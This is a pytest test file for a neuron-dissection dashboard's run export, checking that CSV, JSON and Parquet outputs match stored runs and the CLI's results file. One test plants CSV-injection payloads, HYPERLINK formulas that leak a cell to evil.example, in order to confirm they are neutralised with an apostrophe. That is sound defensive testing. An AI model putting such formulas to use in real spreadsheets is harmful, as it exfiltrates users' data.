"""A run's export through the real app: each format parsed back equals the stored run, old runs included; the
CLI's results.csv of a run and its export are one document; CSV text is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.persistence.models import Layer, Neuron
from app.persistence.store import store_run
from dissect_core.neuron_rows import FORMULA_PREFIXES, NEURON_COLUMNS, NEURON_ROW_COLUMNS
from dissect_core.results import EVALUATION_FIELDS, ConceptScore, DissectionResult
from dissect_core.saved import write_result_files
from tests.support.dashboard_seed import Dashboard, LayerSpec, SeededRun, seed_run
from tests.support.fakes import fake_result, make_images

FLOATS = (
    "score",
    "explained_r",
    "p_value",
    "stability",
    "explanation_r",
    "ground_truth_r",
    "clarity",
    "polysemanticity",
    "redundancy",
)
BOOLEANS = ("reliable", "coverage_judgeable", "encoder_blind")


@pytest.fixture(scope="module")
def evaluated_run(dashboard: Dashboard) -> SeededRun:
    """An evaluated run (a conv and a linear layer, so ground_truth_r is both set and null)."""
    layers = (LayerSpec("conv1", "conv", 30), LayerSpec("fc", "linear", 10))
    return seed_run(dashboard.engine, dashboard.settings, model_name="evalnet", layers=layers, evaluated=True)


def chosen(dashboard: Dashboard, evaluated_run: SeededRun, which: str) -> SeededRun:
    """Return the evaluated run, or the dashboard's newer run (stored before evaluations)."""
    return evaluated_run if which == "evaluated" else dashboard.newer


def stored_rows(dashboard: Dashboard, seeded: SeededRun) -> list[dict[str, Any]]:
    """Return the run's neurons as the database holds them, in forward layer order then by unit, after the
    provenance every seeded run has: its model, random weights from seed 0, the fake encoder, probe folder `probe`."""
    columns = [getattr(Neuron, name) for name in NEURON_COLUMNS if name != "layer"]
    query = (
        select(Layer.name, *columns)
        .join(Layer, Neuron.layer_id == Layer.id)
        .where(Layer.run_id == seeded.run_id)
        .order_by(Layer.position, Neuron.unit)
    )
    run = {"run_id": seeded.run_id, "model": seeded.model_name, "weights": "none@0", "encoder": "fake:encoder"}
    run["probe_set"] = "probe"
    with Session(dashboard.engine) as session:
        return [{**run, **dict(zip(NEURON_COLUMNS, row, strict=True))} for row in session.execute(query)]


def parse_csv_row(row: dict[str, str]) -> dict[str, Any]:
    """Return a CSV row with its cells as the stored types: numbers, booleans, JSON lists, None for empty."""
    parsed: dict[str, Any] = {}
    for column, cell in row.items():
        if cell == "":
            parsed[column] = None
        elif column in FLOATS:
            parsed[column] = float(cell)
        elif column in ("unit", "run_id", "n_carrying"):
            parsed[column] = int(cell)
        elif column in BOOLEANS:
            parsed[column] = {"True": True, "False": False}[cell]
        elif column in ("runners_up", "explanation", "verdict_reasons"):
            parsed[column] = json.loads(cell)
        else:
            parsed[column] = cell
    return parsed


def download(client: TestClient, run_id: int, export_format: str) -> bytes:
    answer = client.get(f"/api/v1/runs/{run_id}/export", params={"format": export_format})
    assert answer.status_code == 200, answer.text
    suffix = "parquet" if export_format == "parquet" else export_format
    assert answer.headers["content-disposition"] == f'attachment; filename="run-{run_id}-labels.{suffix}"'
    return answer.content


@pytest.mark.parametrize("which", ["evaluated", "old"])
def test_csv_export_equals_the_stored_run(
    client: TestClient, dashboard: Dashboard, evaluated_run: SeededRun, which: str
) -> None:
    seeded = chosen(dashboard, evaluated_run, which)
    run_id = seeded.run_id
    text = download(client, run_id, "csv").decode("utf-8")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == NEURON_ROW_COLUMNS
    assert [parse_csv_row(row) for row in reader] == stored_rows(dashboard, seeded)


@pytest.mark.parametrize("which", ["evaluated", "old"])
def test_json_export_equals_the_stored_run(
    client: TestClient, dashboard: Dashboard, evaluated_run: SeededRun, which: str
) -> None:
    seeded = chosen(dashboard, evaluated_run, which)
    run_id = seeded.run_id
    document = json.loads(download(client, run_id, "json"))
    assert document["run"]["id"] == run_id
    assert document["neurons"] == stored_rows(dashboard, seeded)


@pytest.mark.parametrize("which", ["evaluated", "old"])
def test_parquet_export_equals_the_stored_run(
    client: TestClient, dashboard: Dashboard, evaluated_run: SeededRun, which: str
) -> None:
    seeded = chosen(dashboard, evaluated_run, which)
    run_id = seeded.run_id
    table = pq.read_table(io.BytesIO(download(client, run_id, "parquet")))
    assert tuple(table.column_names) == NEURON_ROW_COLUMNS
    assert table.to_pylist() == stored_rows(dashboard, seeded)


def test_a_large_layer_is_exported_in_several_row_groups(client: TestClient, dashboard: Dashboard) -> None:
    parquet = pq.ParquetFile(io.BytesIO(download(client, dashboard.newer.run_id, "parquet")))
    assert parquet.metadata.num_rows == 64 + 2048 + 10
    assert parquet.metadata.num_row_groups > len(dashboard.newer.layers)  # blocks.3's 2,048 units in two batches


def test_old_runs_export_null_evaluations(client: TestClient, dashboard: Dashboard) -> None:
    neurons = json.loads(download(client, dashboard.older.run_id, "json"))["neurons"]
    assert neurons and all(neuron[name] is None for neuron in neurons for name in EVALUATION_FIELDS)


def test_export_of_an_unknown_run_or_format_is_refused(client: TestClient) -> None:
    assert client.get("/api/v1/runs/999999/export").status_code == 404
    assert client.get("/api/v1/runs/1/export", params={"format": "xlsx"}).status_code == 422


def test_run_page_links_every_export_format(client: TestClient, dashboard: Dashboard) -> None:
    page = client.get(f"/runs/{dashboard.newer.run_id}").text
    for export_format in ("csv", "json", "parquet"):
        assert f"/api/v1/runs/{dashboard.newer.run_id}/export?format={export_format}" in page


@pytest.fixture(scope="module")
def probe_images(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """Six small probe images in a folder named `probe`."""
    return make_images(tmp_path_factory.mktemp("export") / "probe", 6)


def cli_and_export(client: TestClient, dashboard: Dashboard, result: DissectionResult, out: Path) -> tuple[str, str]:
    """Store the result, write it with the CLI's writer naming the stored run; return both CSV documents."""
    run_id = store_run(dashboard.engine, dashboard.settings, result)
    write_result_files(result, out, run_id)
    return (out / "results.csv").read_bytes().decode("utf-8"), download(client, run_id, "csv").decode("utf-8")


def test_the_cli_and_the_export_write_one_document(
    client: TestClient, dashboard: Dashboard, probe_images: list[str], tmp_path: Path
) -> None:
    result = fake_result(probe_images, evaluated=True)
    cli, exported = cli_and_export(client, dashboard, result, tmp_path / "out")
    assert cli == exported
    rows = list(csv.DictReader(io.StringIO(cli)))
    assert tuple(rows[0]) == NEURON_ROW_COLUMNS and len(rows) == 6 + 4
    run_id = int(rows[0]["run_id"])
    provenance = {(row["run_id"], row["model"], row["weights"], row["encoder"], row["probe_set"]) for row in rows}
    assert provenance == {(str(run_id), "resnet18", "DEFAULT", "tiny_clip:none", "probe")}
    written = json.loads((tmp_path / "out" / "results.json").read_text())
    neurons = [neuron for layer in written["layers"] for neuron in layer["neurons"]]
    assert all(len(neuron.pop("top_images")) == 3 for neuron in neurons)
    assert neurons == json.loads(download(client, run_id, "json"))["neurons"]


def test_csv_text_a_spreadsheet_would_run_starts_with_an_apostrophe(
    client: TestClient, dashboard: Dashboard, probe_images: list[str], tmp_path: Path
) -> None:
    hostile = [f'{prefix}HYPERLINK("http://evil.example/?leak="&A1)' for prefix in FORMULA_PREFIXES]
    result = fake_result(probe_images, layers=(("fc", "linear", len(hostile), None),))
    layer = result.layers[0]
    layer.neurons = [
        replace(neuron, label=text, score=-0.5, runners_up=(ConceptScore(text, -0.25),))
        for neuron, text in zip(layer.neurons, hostile, strict=True)
    ]
    cli, exported = cli_and_export(client, dashboard, result, tmp_path / "out")
    assert cli == exported
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [row["label"] for row in rows] == [f"'{text}" for text in hostile]
    assert {row["score"] for row in rows} == {"-0.5"}  # a negative number stays a number
    assert [json.loads(row["runners_up"]) for row in rows] == [[{"concept": text, "score": -0.25}] for text in hostile]
    run_id = int(rows[0]["run_id"])
    neurons = json.loads(download(client, run_id, "json"))["neurons"]
    assert [neuron["label"] for neuron in neurons] == hostile and {neuron["score"] for neuron in neurons} == {-0.5}
    table = pq.read_table(io.BytesIO(download(client, run_id, "parquet")))
    assert table.column("label").to_pylist() == hostile
